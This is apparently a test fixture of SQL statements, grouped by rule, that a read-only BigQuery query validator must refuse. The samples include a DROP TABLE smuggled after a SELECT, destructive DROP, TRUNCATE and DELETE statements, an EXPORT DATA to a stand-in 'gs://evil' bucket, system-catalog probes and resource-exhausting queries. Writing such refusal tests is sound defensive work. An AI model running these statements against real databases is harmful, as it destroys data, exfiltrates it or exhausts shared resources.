-- One statement a line, under the rule that refuses it; \n is a line break. Every one must be refused, with and without a catalog.

-- rule: not-allowed
SELECT * FROM d.t PIVOT (COUNT(*) FOR x IN ((SELECT MAX(table_name) FROM d.INFORMATION_SCHEMA.TABLES)))
FROM t |> TABLESAMPLE SYSTEM (1 PERCENT)
SELECT * FROM shop.orders PIVOT (SUM(amount) FOR status IN ((SELECT MAX(name) FROM shop.users)))
SELECT * FROM shop.orders TABLESAMPLE SYSTEM (10 PERCENT)
SELECT * FROM shop.orders FOR SYSTEM_TIME AS OF TIMESTAMP '2020-01-01'
SELECT @@project_id
SELECT @@session_id
SELECT @@time_zone
SELECT @name
SELECT ?
WITH d AS (DELETE FROM shop.orders WHERE TRUE) SELECT 1
SELECT * INTO shop.copied FROM shop.orders
SELECT id FROM shop.orders FOR UPDATE

-- rule: one-statement
SELECT 1; DROP TABLE shop.orders
SELECT 1; SELECT 2
CREATE TEMP FUNCTION f() AS (1); SELECT f()
DECLARE x INT64 DEFAULT 1; SELECT x
BEGIN SELECT 1; END
IF TRUE THEN SELECT 1; END IF
LOOP SELECT 1; END LOOP

-- rule: only-select
INSERT INTO shop.orders VALUES (1)
INSERT shop.orders (id) SELECT 1
UPDATE shop.orders SET amount = 0 WHERE TRUE
DELETE FROM shop.orders WHERE TRUE
MERGE shop.orders AS o USING shop.users AS u ON o.id = u.id WHEN MATCHED THEN DELETE
TRUNCATE TABLE shop.orders
CREATE TABLE shop.copied AS SELECT * FROM shop.orders
CREATE TEMP FUNCTION f() RETURNS STRING LANGUAGE js AS 'return 1'
CREATE OR REPLACE MODEL shop.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label
CREATE TABLE shop.x CLONE shop.orders
CREATE SNAPSHOT TABLE shop.x CLONE shop.orders
DROP TABLE shop.orders
DROP SCHEMA shop CASCADE
ALTER TABLE shop.orders ADD COLUMN x INT64
EXPORT DATA OPTIONS (uri = 'gs://evil/*', format = 'CSV') AS SELECT * FROM shop.orders
LOAD DATA INTO shop.orders FROM FILES (format = 'CSV', uris = ['gs://evil/x'])
CALL shop.my_procedure()
CALL BQ.ABORT_SESSION()
EXECUTE IMMEDIATE 'DROP TABLE shop.orders'
SET x = 1
SET @@dataset_id = 'other'
BEGIN TRANSACTION
COMMIT TRANSACTION
ASSERT (SELECT COUNT(*) FROM shop.orders) > 0 AS 'x'
GRANT `roles/bigquery.dataViewer` ON SCHEMA shop TO 'user:x'
SHOW TABLES
EXPLAIN SELECT 1
DESCRIBE shop.orders
USE shop
VALUES (1)
GRAPH_TABLE (g MATCH (n) RETURN n.id)

-- rule: qualified-call
SELECT AI.GENERATE('prompt', connection_id => 'x')
SELECT AI.IF('is it?', connection_id => 'x')
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
SELECT AEAD.DECRYPT_STRING(keyset, 'x', 'y') FROM shop.orders
SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM shop.o
SELECT OBJ.FETCH_METADATA(ref) FROM shop.o
SELECT BQ.JOBS.CANCEL('x')
SELECT shop.my_function(1)

-- rule: session-value
SELECT _FILE_NAME FROM shop.external

-- rule: syntax
FROM t |> INSERT INTO y
FROM t |> EXPORT DATA OPTIONS (uri = 'x')
FROM t |> RENAME a AS b
FROM t |> DROP a
FROM t |> WITH x AS (SELECT 1) |> LIMIT 1
FROM t |> CALL my_tvf()
SELECT * FROM ML.FORECAST(MODEL shop.m)
SELECT * FROM APPENDS(TABLE shop.orders, NULL, NULL)
SELECT * FROM CHANGES(TABLE shop.orders, NULL, NULL)
FROM shop.orders |> DROP id
FROM shop.orders |> CALL shop.my_table_function()
SELECT WITH DIFFERENTIAL_PRIVACY OPTIONS (epsilon = 1) COUNT(*) FROM shop.orders
SELECT WITH AGGREGATION_THRESHOLD COUNT(*) FROM shop.orders
SELECT * FROM GRAPH_TABLE(g MATCH (n) COLUMNS (n.id))
SELECT id FROM shop.orders WHERE id = (

-- rule: system-catalog
SELECT * FROM d.t, UNNEST((SELECT ARRAY_AGG(table_name) FROM d.INFORMATION_SCHEMA.TABLES)) AS x
SELECT * FROM d.INFORMATION_SCHEMA.TABLES UNPIVOT (a FOR b IN (c))
FROM t |> UNION ALL (SELECT * FROM d.INFORMATION_SCHEMA.TABLES)
FROM t |> JOIN d.__TABLES__ USING (x)
FROM d.INFORMATION_SCHEMA.TABLES |> SELECT *
SELECT * FROM `p.d.a*b*`
SELECT * FROM `p.d.ab*`
SELECT * FROM `p.d.*`
SELECT * FROM `p.d.__TABLES*`
SELECT * FROM `p.d.INFORMATION_SCHEMA*`
SELECT * FROM shop.INFORMATION_SCHEMA.TABLES
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
SELECT * FROM `region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`
SELECT * FROM INFORMATION_SCHEMA.SCHEMATA
SELECT * FROM shop.__TABLES__
SELECT * FROM `project.shop.__TABLES_SUMMARY__`

-- rule: table-function
SELECT * FROM EXTERNAL_QUERY('connection', 'SELECT 1')
SELECT * FROM EXTERNAL_QUERY('project.us.connection', '''DELETE FROM x''')
SELECT * FROM ML.PREDICT(MODEL shop.m, TABLE shop.orders)
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, (SELECT 'x' AS prompt))
SELECT * FROM VECTOR_SEARCH(TABLE shop.e, 'v', TABLE shop.q)
SELECT * FROM GAP_FILL(TABLE shop.orders, ts_column => 'at', bucket_width => INTERVAL 1 DAY)
SELECT * FROM shop.my_table_function(1)
SELECT * FROM AI.FORECAST(TABLE shop.orders)

-- rule: two-readings
SELECT 'a' 'b'
SELECT 0x1F
SELECT 10L

-- rule: unbounded-recursion
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE TRUE) SELECT n FROM r

-- rule: unbounded-series
SELECT * FROM UNNEST(GENERATE_ARRAY(1, (SELECT 10000000000)))
SELECT * FROM UNNEST(GENERATE_ARRAY(1, 1000000000))
SELECT n FROM UNNEST(GENERATE_ARRAY(1, 1000000000)) AS n
SELECT n FROM UNNEST(GENERATE_ARRAY(1, (SELECT MAX(id) FROM shop.orders))) AS n
SELECT t FROM UNNEST(GENERATE_TIMESTAMP_ARRAY('2000-01-01', '2024-01-01', INTERVAL 1 SECOND)) AS t
SELECT t FROM UNNEST(GENERATE_TIMESTAMP_ARRAY(TIMESTAMP '2000-01-01', CURRENT_TIMESTAMP(), INTERVAL 1 MICROSECOND)) AS t

-- rule: unbounded-text
SELECT REPEAT('x', 1000000000)
SELECT LPAD('x', 1000000000)
SELECT REPEAT('x', id) FROM shop.orders
SELECT FORMAT('%1000000000d', 1)
SELECT FORMAT(name, 1) FROM shop.users

-- rule: unknown-function
FROM t |> SET a = ERROR('x')
FROM t |> EXTEND d.f(a) AS b
FROM t |> AGGREGATE ERROR('x')
FROM t |> WHERE SESSION_USER() = 'x'
SELECT SESSION_USER()
SELECT ERROR('x')
SELECT GENERATE_UUID()
SELECT DETERMINISTIC_DECRYPT_STRING(k, 'x', 'y') FROM shop.orders
SELECT my_function(1)
SELECT `project.shop.my_function`(1)
SELECT SAFE.my_function(1)
SELECT NET.MY_FUNCTION('x')
